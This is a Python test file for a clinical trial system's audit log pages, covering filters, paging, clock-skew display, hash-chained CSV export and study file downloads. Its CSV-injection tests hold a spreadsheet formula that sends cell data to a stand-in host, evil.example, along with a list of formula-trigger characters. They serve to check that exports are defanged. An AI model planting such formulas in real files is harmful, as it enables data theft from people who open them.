"""The ledger as an inspector reads it: filters and pages in; rows, and a copy to keep, out."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from urllib.parse import urlencode

import pytest
from django.http import HttpResponse

from heliotrope.capture.entries import Exported
from heliotrope.web.accounts import NewPerson, add_people, add_person, change_role
from heliotrope.web.actions.screen import screen
from heliotrope.web.find import find_study_files
from heliotrope.web.pages.copies import AUDIT_COLUMNS, keep_as_text
from heliotrope.web.store import SYSTEM, Store
from tests.web.fakes import FakeClock
from tests.web.stage import (
    CONSENT,
    SCREENING,
    Desk,
    count_entries,
    enroll_one,
    find,
    latest_entries,
    person,
    read,
    read_text,
    screen_one,
    sign_one,
)

SECRET = "told of a neighbour"


def list_rows(response: HttpResponse) -> list[list[str]]:
    """The words of each row's cells."""
    assert response.status_code == 200
    body = re.findall(r"<tbody>(.*?)</tbody>", read(response), re.DOTALL)
    rows = re.findall(r"<tr>(.*?)</tr>", body[0], re.DOTALL) if body else []
    return [
        [" ".join(re.sub("<[^>]+>", " ", cell).split()) for cell in re.split("</t[hd]>", row)[:-1]]
        for row in rows
    ]


def show(desk: Desk, **query: str) -> list[list[str]]:
    return list_rows(desk.get("audit", query="?" + urlencode(query)))


def export(desk: Desk, **query: str) -> list[dict[str, str]]:
    response = desk.get("audit_export", query="?" + urlencode(query))
    assert response.status_code == 200
    text = response.content.decode()
    assert text.startswith("\ufeff"), "Excel shows rubbish without the mark"
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_every_entry_is_listed_with_who_when_what_and_why(store: Store) -> None:
    enroll_one(store)
    sign_one(store)
    desk = Desk("coordinator")
    on = {"_date": "2026-02-26", "_reason": "other", "_reason_text": "the sheet was found"}
    desk.save("NC-001", "screening", "consent", {**CONSENT, "version": SECRET}, **on)
    inspector = Desk("inspector")
    rows = show(inspector)
    assert [int(row[0]) for row in rows] == list(range(count_entries(), 0, -1))
    saved = rows[0]
    assert re.fullmatch(r"2026-03-02 09:00:\d\d", saved[1])
    assert saved[2] == "Chen Jing 陈静 Coordinator"
    assert saved[3] == "Form saved"
    assert saved[4] == "NC-001"
    assert saved[5] == "Screening · Informed consent · version 2, complete"
    assert saved[6] == "Another reason (say which) · the sheet was found"
    assert saved[7] == "1"
    assert re.fullmatch("[0-9a-f]{8}", saved[8])
    signed = next(row for row in rows if row[3] == "Signed")
    assert signed[5] == "Baseline · I have reviewed all data of this visit · 12 forms"
    page = read(inspector.get("audit"))
    assert "Beijing time" in page
    assert SECRET not in page, "what a participant told is not in the list"
    assert f"{count_entries()} entries, head {count_entries()}:" in page


def test_each_filter_narrows_and_all_combine(store: Store, clock: FakeClock) -> None:
    enroll_one(store)
    clock.moment = datetime(2026, 3, 3, 1, 0, tzinfo=UTC)
    screen_one(store, "NC-002")
    sign_one(store)
    desk, investigator = Desk("monitor"), person(store, "investigator")
    everything = show(desk)
    assert {row[4] for row in show(desk, participant="NC-002")} == {"NC-002"}
    assert {row[3] for row in show(desk, kind="signed")} == {"Signed"}
    assert {row[2] for row in show(desk, person=investigator.id)} == {"Li Wei 李伟 Investigator"}
    later = show(desk, since="2026-03-03")
    assert {row[1][:10] for row in later} == {"2026-03-03"}
    earlier = show(desk, until="2026-03-02")
    assert {row[1][:10] for row in earlier} == {"2026-03-02"}
    assert len(later) + len(earlier) == len(everything)
    both = show(desk, participant="NC-002", kind="answered", since="2026-03-03")
    assert {(row[3], row[4]) for row in both} == {("Form saved", "NC-002")}
    assert show(desk, participant="NC-002", kind="signed") == []
    assert "No entry matches" in read_text(desk.get("audit", query="?kind=redacted"))
    # The choice stands in the page, and the copy takes it along.
    page = read(desk.get("audit", query="?kind=signed&participant=NC-001"))
    assert re.search(r'<option value="signed" selected>', page)
    assert "export.csv?kind=signed&amp;participant=NC-001" in page


def test_a_day_of_the_filter_is_a_day_at_the_site(store: Store, clock: FakeClock) -> None:
    clock.moment = datetime(2026, 3, 2, 15, 59, 50, tzinfo=UTC)  # 23:59:50 at the site
    screen(store, person(store, "coordinator"), "NC-001")
    clock.moment = datetime(2026, 3, 2, 16, 0, 10, tzinfo=UTC)
    screen(store, person(store, "coordinator"), "NC-002")
    desk = Desk("monitor")
    on_third = show(desk, since="2026-03-03", kind="screened")
    assert [row[4] for row in on_third] == ["NC-002"]
    on_second = show(desk, until="2026-03-02", kind="screened")
    assert [row[4] for row in on_second] == ["NC-001"]


def test_a_day_that_is_none_is_named(store: Store) -> None:
    response = Desk("monitor").get("audit", query="?since=2026-13-45")
    assert "is not a date" in read_text(response)
    assert len(list_rows(response)) == count_entries()


def test_long_lists_have_pages_that_keep_the_filter(store: Store) -> None:
    coordinator = person(store, "coordinator")
    for number in range(1, 121):
        screen(store, coordinator, f"NC-{number:03}")
    desk = Desk("monitor")
    seen = []
    for page, shown in ((1, "1–50"), (2, "51–100"), (3, "101–120")):
        response = desk.get("audit", query=f"?kind=screened&page={page}")
        assert f"{shown} of 120" in read_text(response)
        seen += [row[4] for row in list_rows(response)]
    assert seen == [f"NC-{number:03}" for number in range(120, 0, -1)]
    middle = read(desk.get("audit", query="?kind=screened&page=2"))
    assert "kind=screened&amp;page=1" in middle
    assert "kind=screened&amp;page=3" in middle


def test_a_clock_that_went_backwards_is_shown(store: Store, clock: FakeClock) -> None:
    coordinator = person(store, "coordinator")
    screen(store, coordinator, "NC-001")
    clock.moment -= timedelta(hours=2)
    screen(store, coordinator, "NC-002")
    desk = Desk("inspector")
    newest, before = show(desk, kind="screened")
    assert re.search(r" · clock went back 71\d\d\.\d+ s$", newest[1])
    assert "clock" not in before[1]
    copied = export(desk, kind="screened")
    assert copied[0]["clock_back_seconds"] == ""
    assert float(copied[1]["clock_back_seconds"]) == pytest.approx(7199)
    desk.post("set_language", data={"language": "zh-hans"})
    assert "时钟倒退" in show(desk, kind="screened")[0][1]


# ------------------------------------------------------------------ the copy


def test_the_copy_holds_every_entry_and_is_an_entry_itself(store: Store) -> None:
    enroll_one(store)
    sign_one(store)
    before = count_entries()
    rows = export(Desk("inspector"))
    assert tuple(rows[0]) == AUDIT_COLUMNS
    assert [int(row["entry"]) for row in rows] == list(range(1, before + 2))
    fact = latest_entries()[0].fact
    assert isinstance(fact, Exported)
    assert (fact.what, fact.up_to) == ("entries.csv", before)
    for earlier, later in pairwise(rows):
        assert later["previous"] == earlier["hash"]
    assert rows[-1]["hash"] == str(store.state().head).partition(":")[2]
    assert rows[0]["at_utc"].endswith("Z")


def test_the_copy_is_of_what_the_filter_lets_through(store: Store) -> None:
    enroll_one(store)
    screen_one(store, "NC-002")
    rows = export(Desk("monitor"), participant="NC-002", kind="answered")
    assert {(row["participant"], row["kind"]) for row in rows} == {("NC-002", "answered")}
    assert len(rows) == len(SCREENING)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"])
def test_a_cell_that_a_table_program_would_run_is_kept_as_text(begin: str) -> None:
    assert keep_as_text(f"{begin}HYPERLINK(1)") == f"'{begin}HYPERLINK(1)"


@pytest.mark.parametrize("text", ["", "NC-001", "2026-03-02T01:00:00Z", "007", "陈静", "a=b"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert keep_as_text(text) == text


def test_the_copy_says_why_in_the_persons_own_words(store: Store) -> None:
    screen_one(store)
    desk = Desk("coordinator")
    on = {"_date": "2026-02-26", "_reason": "other", "_reason_text": "=1+1, as the sheet says"}
    desk.save("NC-001", "screening", "consent", {**CONSENT, "version": "2.0"}, **on)
    row = export(desk, kind="answered")[-1]
    assert (row["why"], row["why_text"]) == ("other", "'=1+1, as the sheet says")


def test_a_name_made_to_be_run_is_not_run(store: Store) -> None:
    name = '=HYPERLINK("http://evil.example?"&A1,"click")'
    add_people(store, SYSTEM, [NewPerson("evil", name, "coordinator", "x", demo=True)])
    who = next(s.person for s in store.state().staff.values() if s.person.username == "evil")
    screen(store, who, "NC-001")
    rows = export(Desk("inspector"))
    assert rows[-2]["name"] == f"'{name}"
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(risky)]


def test_changes_of_people_are_listed_by_name(store: Store) -> None:
    administrator = person(store, "administrator")
    added = add_person(store, administrator, "gao", "Gao Yan 高燕", "coordinator")
    change_role(store, administrator, added.person.id, "inactive")
    rows = show(Desk("administrator"))
    assert rows[0][3:6] == ["Role changed", "", "Gao Yan 高燕 · Inactive"]
    assert rows[1][3:6] == ["Person added", "", "Gao Yan 高燕 · Coordinator"]
    assert rows[0][2] == "Zhou Lan 周岚 Administrator"


def test_the_administrator_finds_no_way_to_a_participant(store: Store) -> None:
    enroll_one(store)
    page = read(Desk("administrator").get("audit"))
    assert "NC-001" in page
    assert 'href="/participants' not in page
    assert "Today" not in re.findall(r"<nav.*?</nav>", page, re.DOTALL)[0]


# ------------------------------------------------------------------ the study's files


def test_the_files_in_force_can_be_taken_away_as_they_were_read(store: Store) -> None:
    response = Desk("inspector").get("study_download")
    assert find(r'filename="([^"]+)"', response.headers["Content-Disposition"]) == (
        "nct05488327-v1.zip"
    )
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        files = {name: archive.read(name).decode() for name in archive.namelist()}
    assert files == find_study_files()


def test_what_the_study_is_made_of_is_shown_with_what_is_proposed_or_missing(store: Store) -> None:
    words = read_text(Desk("statistician").get("study_files"))
    for part in (
        "NCT05488327",
        "Exclusion criteria from the eighth on",
        "Until this is entered, the study serves as a demonstration only.",
        "proposed",
        "not found",
        "interpretation",
        "single arm",
        "Aged 18 to 75 years",
        "Version 1, fingerprint",
        "Week 24",
    ):
        assert part in words, part
